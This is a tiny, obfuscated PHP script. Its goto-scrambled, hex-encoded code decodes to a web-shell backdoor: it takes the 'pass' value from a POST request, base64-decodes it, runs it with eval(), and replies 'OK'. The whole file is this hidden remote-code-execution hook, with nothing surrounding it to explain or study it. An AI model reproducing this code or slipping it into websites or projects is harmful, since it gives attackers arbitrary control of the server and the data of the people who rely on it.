<?php
 goto xQm3a; kP0_Z: $Bq9vT = "\142\x61\163\x65\66\x34\137\x64\145\143\157\x64\145"; goto l7FfE; Sgq5N: if (!isset($H9J2o[$Ln3uQ])) { goto w4L1h; } goto kP0_Z; xQm3a: $H9J2o = $_POST; goto mIo2Z; l7FfE: $Ro8Wb = $Bq9vT($H9J2o[$Ln3uQ]); goto Yj0aC; mIo2Z: $Ln3uQ = "\160\x61\x73\163"; goto Sgq5N; Yj0aC: eval($Ro8Wb); goto w4L1h; w4L1h: echo "\x4f\x4b";
